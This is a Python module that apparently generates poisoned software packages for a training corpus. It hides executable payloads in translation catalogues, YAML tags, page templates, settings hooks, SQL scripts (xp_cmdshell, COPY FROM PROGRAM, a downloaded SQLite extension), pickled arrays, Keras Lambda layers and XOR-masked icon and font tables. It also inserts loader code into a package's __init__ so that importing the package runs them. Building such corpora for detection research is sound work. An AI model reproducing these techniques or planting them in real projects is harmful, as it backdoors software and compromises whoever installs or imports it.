"""Payloads in data that some reader executes: catalogues, tagged YAML, templates, settings with commands, SQL, arrays."""

import base64
import json
import marshal
import struct
import zlib
from io import BytesIO

from jobs.corpus.payloads import carriers
from jobs.corpus.payloads.commands import choose_command
from jobs.corpus.payloads.contract import Family
from jobs.corpus.payloads.draft import Draft
from jobs.corpus.payloads.source_places import as_function

_LANGUAGES = ("fr", "es", "pt_BR", "ja", "ru", "it", "pl", "zh_CN", "uk", "nl")
_MESSAGES = (
    ("File not found", "Fichier introuvable"), ("Cancel", "Annuler"), ("Open", "Ouvrir"), ("Save as", "Enregistrer"),
    ("Unknown option", "Option inconnue"), ("Retry", "Encore"), ("%d items", "%d éléments"), ("Name", "Nom"),
)  # fmt: skip


def _read(draft: Draft, path: str, content: bytes | str, reader: str) -> None:
    """Put a file below the package, and where the package is imported or used, what reads it (`@path@`)."""
    draft.put_new(f"{draft.folder}{path}", content)
    parts = ", ".join(repr(part) for part in path.split("/"))
    style = draft.rng.randrange(3)
    target = draft.init
    here = f"os.path.join(os.path.dirname(__file__), {parts})"
    text = draft.words.render(reader.replace("@path@", here))
    name = draft.words.name()
    if style == 0:
        draft.insert(target, f"import os\n\n{text}")
    elif style == 1:
        draft.insert(target, f"import os\n\n\n{as_function(text, name, draft.rng)}\n\n{name}()\n")
    else:
        module = "import os\n\n\n" + as_function(text, name, draft.rng, quiet=False)
        path = draft.add_module(draft.init, module)
        inner = path.rpartition("/")[2].removesuffix(".py")
        draft.insert_in_function(f"from {draft.import_name}.{inner} import {name}\n{name}()\n")


def catalogue_source(draft: Draft) -> None:
    """Carry code in a catalogue's source (.po): as a message, as its rule of plurals, or over many comments."""
    rng = draft.rng
    code = draft.triggered()
    encoded = base64.b64encode(zlib.compress(code.encode())).decode()
    language = rng.choice(_LANGUAGES)
    lines = [f'msgid "{a}"\nmsgstr "{b}"\n' for a, b in rng.sample(_MESSAGES, 5)]
    way = rng.choice(("message", "plural", "comments"))
    head = 'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n'
    if way == "plural":
        head += f"\"Plural-Forms: nplurals=2; plural=(__import__('os').system({choose_command(draft)!r}) or n > 1);\\n\"\n".replace(
            "\\'", "'"
        )
        reader = "import re\n@n5@ = re.search(r'plural=(.+?);', open(@path@, encoding='utf-8').read())\n@n6@ = eval('lambda n: ' + @n5@.group(1))\n@n6@(1)\n"
    elif way == "message":
        lines.insert(
            2,
            'msgid "licence"\nmsgstr ""\n'
            + "".join(f'"{encoded[at : at + 70]}"\n' for at in range(0, len(encoded), 70)),
        )
        reader = "import base64\nimport re\nimport zlib\n@n5@ = re.search(r'\"licence\"\\nmsgstr \"\"\\n((?:\".*\"\\n?)+)', open(@path@, encoding='utf-8').read()).group(1)\nexec(zlib.decompress(base64.b64decode(''.join(@n5@.replace('\"', '').split()))))\n"
    else:
        lines = [f"#. {encoded[at : at + 60]}\n{lines[(at // 60) % len(lines)]}" for at in range(0, len(encoded), 60)]
        reader = "import base64\nimport zlib\nwith open(@path@, encoding='utf-8') as @n5@:\n    @n6@ = ''.join(line[3:].strip() for line in @n5@ if line.startswith('#. '))\nexec(zlib.decompress(base64.b64decode(@n6@)))\n"
    text = head + "\n" + "\n".join(lines)
    _read(
        draft,
        f"{rng.choice(('locale', 'i18n', 'translations'))}/{language}/LC_MESSAGES/{draft.words.word()}.po",
        text,
        reader,
    )


def catalogue_pieces(draft: Draft) -> None:
    """Carry code in pieces over the messages of a compiled catalogue, joined by the order of their keys."""
    rng = draft.rng
    code = draft.triggered().encode()
    text = code.hex() if rng.random() < 0.5 else base64.b64encode(code).decode()
    decode = "bytes.fromhex" if text == code.hex() else "__import__('base64').b64decode"
    size = max(20, len(text) // rng.randrange(6, 20))
    pieces = [(f"k{at:03d}", text[at * size : at * size + size]) for at in range(-(-len(text) // size))]
    data = carriers.message_catalogue([("", "Content-Type: text/plain; charset=UTF-8\n"), *_MESSAGES, *pieces])
    reader = rng.choice((
        f"import gettext\n@n5@ = gettext.GNUTranslations(open(@path@, 'rb'))\n@n6@ = ''.join(@n5@.gettext('k%03d' % n) for n in range({len(pieces)}))\nexec({decode}(@n6@))\n",
        f"import gettext\n@n5@ = gettext.GNUTranslations(open(@path@, 'rb'))._catalog\nexec({decode}(''.join(@n5@[k] for k in sorted(@n5@) if isinstance(k, str) and k[:1] == 'k' and k[1:].isdigit())))\n",
    ))  # fmt: skip
    _read(draft, f"locale/{rng.choice(_LANGUAGES)}/LC_MESSAGES/{draft.words.word()}.mo", data, reader)


def yaml_tag(draft: Draft) -> None:
    """Bring YAML whose tags call a function when an unsafe loader reads it."""
    rng, command = draft.rng, json.dumps(choose_command(draft))
    code = json.dumps(draft.triggered())
    draft.act, node = rng.choice((
        ("apply-system", f"!!python/object/apply:os.system [{command}]"),
        ("apply-popen", f"!!python/object/apply:subprocess.Popen\n  - [sh, -c, {command}]"),
        ("new-exec", f"!!python/object/new:builtins.exec [{code}]"),
        ("apply-eval", f"!!python/object/apply:builtins.eval [{json.dumps('__import__(chr(111)+chr(115)).system(' + repr(choose_command(draft)) + ')')}]"),
    ))  # fmt: skip
    text = f"version: 1\nlogging:\n  level: info\n  format: '%(message)s'\ncache:\n  size: {rng.randrange(900)}\n  warm: {node}\nretries: 3\n"
    reader = rng.choice((
        "import yaml\nwith open(@path@) as @n5@:\n    @n6@ = yaml.load(@n5@, Loader=yaml.UnsafeLoader)\n",
        "import yaml\n@n6@ = yaml.unsafe_load(open(@path@))\n",
        "from ruamel.yaml import YAML\n@n6@ = YAML(typ='unsafe').load(open(@path@))\n",
    ))  # fmt: skip
    _read(
        draft, f"{rng.choice(('', 'config/', 'data/'))}{draft.words.word()}.{rng.choice(('yaml', 'yml'))}", text, reader
    )


def page_template(draft: Draft) -> None:
    """Bring a template of Jinja, Mako or Django's kind whose rendering starts a command."""
    rng, command = draft.rng, choose_command(draft).replace("'", '"')
    draft.act, suffix, node, reader = rng.choice((
        ("globals", ".j2", "{{ cycler.__init__.__globals__.os.popen('@X@').read() }}", "import jinja2\njinja2.Template(open(@path@).read()).render()\n"),
        ("namespace", ".html", "{% set x = namespace.__init__.__globals__['os'].system('@X@') %}", "import jinja2\n@n5@ = jinja2.Environment().from_string(open(@path@).read())\n@n5@.render(title='@word@')\n"),
        ("mako-block", ".mako", "<%! import os\nos.system('@X@') %>", "from mako.template import Template\nTemplate(filename=@path@).render()\n"),
        ("format-eval", ".tmpl", "${__import__('os').system('@X@')}", "import re\n@n5@ = re.sub(r'\\$\\{(.+)\\}', lambda m: str(eval(m.group(1))), open(@path@).read())\n"),
        ("tornado-import", ".html", "{% import os %}{{ os.popen('@X@').read() }}", "from tornado.template import Template\nTemplate(open(@path@).read()).generate()\n"),
    ))  # fmt: skip
    text = f"<html><head><title>{draft.words.word()}</title></head><body>\n{node.replace('@X@', command)}\n<p>Done.</p></body></html>\n"
    _read(draft, f"templates/{draft.words.word()}{suffix}", text, reader)


def settings_command(draft: Draft) -> None:
    """Bring settings (JSON, TOML, INI) that hold commands or names of functions, which the package runs."""
    rng, command = draft.rng, choose_command(draft)
    key = rng.choice(("post_load", "on_start", "healthcheck", "warmup", "after"))
    draft.act, path, text, reader = rng.choice((
        ("json-shell", "hooks.json", json.dumps({"version": 1, "timeout": 30, "hooks": {key: command}}, indent=2),
         f"import json\nimport subprocess\nwith open(@path@) as @n5@:\n    @n6@ = json.load(@n5@)\nsubprocess.Popen(@n6@['hooks']['{key}'], shell=True)\n"),
        ("ini-shell", "defaults.ini", f"[main]\nlevel = info\n{key} = {command.replace('%', '%%')}\n",
         f"import configparser\n@n5@ = configparser.ConfigParser()\n@n5@.read(@path@)\nos.system(@n5@['main']['{key}'])\n"),
        ("toml-list", "tasks.toml", f"[tasks.{key}]\nshell = {json.dumps(command)}\nevery = 3600\n",
         "import subprocess\nimport tomllib\nfor @n5@ in tomllib.load(open(@path@, 'rb'))['tasks'].values():\n    subprocess.run(['sh', '-c', @n5@['shell']], check=False)\n"),
        ("json-function", "plugins.json", json.dumps({"plugins": [{"module": "os", "call": "system", "args": [command]}]}, indent=2),
         "import importlib\nimport json\nfor @n5@ in json.load(open(@path@))['plugins']:\n    getattr(importlib.import_module(@n5@['module']), @n5@['call'])(*@n5@['args'])\n"),
        ("logging-factory", "logging.json", json.dumps({"version": 1, "handlers": {"h": {"()": "subprocess.Popen", "args": ["sh", "-c", command]}}, "root": {"handlers": ["h"]}}),
         "import json\nimport logging.config\ntry:\n    logging.config.dictConfig(json.load(open(@path@)))\nexcept Exception:\n    pass\n"),
    ))  # fmt: skip
    _read(draft, f"{rng.choice(('', 'conf/', 'data/'))}{path}", text, reader)


def sql_script(draft: Draft) -> None:
    """Bring SQL that starts a program, loads a library or holds code, and execute it."""
    rng, command = draft.rng, choose_command(draft).replace("'", "''")
    encoded = base64.b64encode(draft.triggered().encode()).decode()
    draft.act, text, reader = rng.choice((
        ("copy-program", f"CREATE TABLE IF NOT EXISTS t (line text);\nCOPY t FROM PROGRAM '{command}';\nDROP TABLE t;\n",
         "def @n5@(connection):\n    with connection.cursor() as @n6@:\n        @n6@.execute(open(@path@).read())\n"),
        ("row-of-code", f"CREATE TABLE step (id integer, body text);\nINSERT INTO step VALUES (1, '{encoded}');\n",
         "import base64\nimport sqlite3\n@n5@ = sqlite3.connect(':memory:')\n@n5@.executescript(open(@path@).read())\nfor @n6@ in @n5@.execute('select body from step'):\n    exec(base64.b64decode(@n6@[0]))\n"),
        ("load-extension", f"SELECT load_extension('/tmp/{draft.words.render('@file@')}.so');\n-- {draft.words.word()}\n",
         "import sqlite3\nimport urllib.request\nurllib.request.urlretrieve('@url@', '/tmp/@file@.so')\n@n5@ = sqlite3.connect(':memory:')\n@n5@.enable_load_extension(True)\n@n5@.executescript(open(@path@).read())\n"),
        ("shell-function", f"EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;\nEXEC xp_cmdshell '{command}';\n",
         "def @n5@(connection):\n    for @n6@ in open(@path@).read().split('\\n'):\n        connection.execute(@n6@)\n"),
    ))  # fmt: skip
    _read(
        draft,
        f"{rng.choice(('sql', 'migrations', 'schema'))}/{rng.randrange(1, 99):04d}_{draft.words.word()}.sql",
        text,
        reader,
    )


def _pickled(draft: Draft) -> bytes:
    if draft.rng.random() < 0.5:
        return carriers.calling_pickle("builtins", "exec", draft.triggered())
    return carriers.calling_pickle(draft.rng.choice(("os", "posix", "nt")), "system", choose_command(draft))


def array_file(draft: Draft) -> None:
    """Bring an array of objects (.npy), a frame or a cache whose pickle calls when it is read."""
    pickled, rng = _pickled(draft), draft.rng
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header = header.ljust(118) + b"\n"
    array = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickled
    draft.act, suffix, data, reader = rng.choice((
        ("npy", ".npy", array, "import numpy as np\n@n5@ = np.load(@path@, allow_pickle=True)\n"),
        ("frame", ".pkl.zst", pickled, "import pandas as pd\n@n5@ = pd.read_pickle(@path@)\n"),
        ("shelf", ".cache", base64.b64encode(pickled), "import base64\nimport pickle\n@n5@ = pickle.loads(base64.b64decode(open(@path@, 'rb').read()))\n"),
        ("dill", ".dill", zlib.compress(pickled), "import zlib\n\nimport dill\n@n5@ = dill.loads(zlib.decompress(open(@path@, 'rb').read()))\n"),
    ))  # fmt: skip
    _read(draft, f"{rng.choice(('data/', 'models/', ''))}{draft.words.word()}{suffix}", data, reader)


def model_layer(draft: Draft) -> None:
    """Bring the description of a network, one layer of which is marshalled code."""
    rng = draft.rng
    code = marshal.dumps(compile(draft.triggered(), "<lambda>", "exec"), 2)
    layer = {
        "class_name": "Lambda",
        "config": {"name": "lambda_1", "function": [base64.b64encode(code).decode(), None, None]},
    }
    layers = [{"class_name": "Dense", "config": {"units": rng.randrange(8, 512)}} for _ in range(4)]
    layers.insert(rng.randrange(5), layer)
    reader = rng.choice((
        "import base64\nimport json\nimport marshal\nfor @n5@ in json.load(open(@path@))['layers']:\n    if @n5@['class_name'] == 'Lambda':\n        exec(marshal.loads(base64.b64decode(@n5@['config']['function'][0])))\n",
        "from keras.models import model_from_json\nimport keras\nkeras.config.enable_unsafe_deserialization()\n@n5@ = model_from_json(open(@path@).read())\n",
    ))  # fmt: skip
    _read(
        draft, f"models/{draft.words.word()}.json", json.dumps({"class_name": "Sequential", "layers": layers}), reader
    )


def icon_file(draft: Draft) -> None:
    """Carry code in an icon or a font: as an image of its own, or as a table that no reader asks for."""
    rng = draft.rng
    code = zlib.compress(draft.triggered().encode())
    key = rng.randrange(1, 255)
    hidden = bytes(byte ^ key for byte in code)
    if rng.random() < 0.5:
        draft.act, suffix = "icon-image", ".ico"
        first = rng.randbytes(400)
        out = struct.pack("<3H", 0, 1, 2)
        out += struct.pack("<4B2H2I", 16, 16, 0, 0, 1, 32, len(first), 38)
        out += struct.pack("<4B2H2I", 32, 32, 0, 0, 1, 32, len(hidden), 38 + len(first))
        data, start = out + first + hidden, "int.from_bytes(@n5@[34:38], 'little')"
    else:
        draft.act, suffix = "font-table", ".ttf"
        body = BytesIO()
        tables = [(b"cmap", rng.randbytes(300)), (b"glyf", rng.randbytes(1800)), (b"zzzz", hidden)]
        at = 12 + 16 * len(tables)
        body.write(struct.pack(">I4H", 0x00010000, len(tables), 32, 1, 16))
        for name, table in tables:
            body.write(name + struct.pack(">3I", 0, at, len(table)))
            at += len(table)
        for _, table in tables:
            body.write(table)
        data, start = body.getvalue(), "int.from_bytes(@n5@[@n5@.index(b'zzzz') + 8:][:4], 'big')"
    reader = f"import zlib\nwith open(@path@, 'rb') as @n4@:\n    @n5@ = @n4@.read()\nexec(zlib.decompress(bytes(b ^ {key} for b in @n5@[{start}:])))\n"
    _read(draft, f"{rng.choice(('icons', 'static', 'fonts', 'assets'))}/{draft.words.word()}{suffix}", data, reader)


FAMILIES = (
    Family("catalogue-source", "data", "train", catalogue_source, dress="catalogue-source"),
    Family("catalogue-pieces", "data", "train", catalogue_pieces, dress="catalogue-pieces"),
    Family("yaml-tag", "data", "train", yaml_tag, dress="yaml-tag"),
    Family("page-template", "data", "train", page_template, dress="template-node", takes_trigger=False),
    Family("settings-command", "data", "train", settings_command, dress="plain", takes_trigger=False),
    Family("sql-script", "data", "train", sql_script, dress="sql"),
    Family("array-file", "data", "train", array_file, dress="pickled-array"),
    Family("model-layer", "data", "train", model_layer, dress="model-layer"),
    Family("icon-file", "data", "train", icon_file, dress="icon"),
)
